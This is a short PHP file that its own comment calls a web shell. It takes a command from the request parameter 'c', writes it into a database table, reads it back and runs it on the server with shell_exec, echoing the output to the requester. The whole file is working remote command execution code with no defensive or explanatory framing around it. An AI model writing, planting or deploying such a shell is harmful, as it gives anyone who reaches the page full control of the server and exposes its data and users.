<?php
// a web shell that stores the command it is given, then runs it once the query finds it
$db = mysqli_connect('localhost', 'u', 'p', 'd');
$c = mysqli_real_escape_string($db, $_REQUEST['c']);
mysqli_query($db, "REPLACE INTO jobs (cmd) VALUES ('$c')");
$r = mysqli_query($db, "SELECT cmd FROM jobs WHERE cmd = '$c'");
if (mysqli_num_rows($r)) {
    echo shell_exec($c);
}
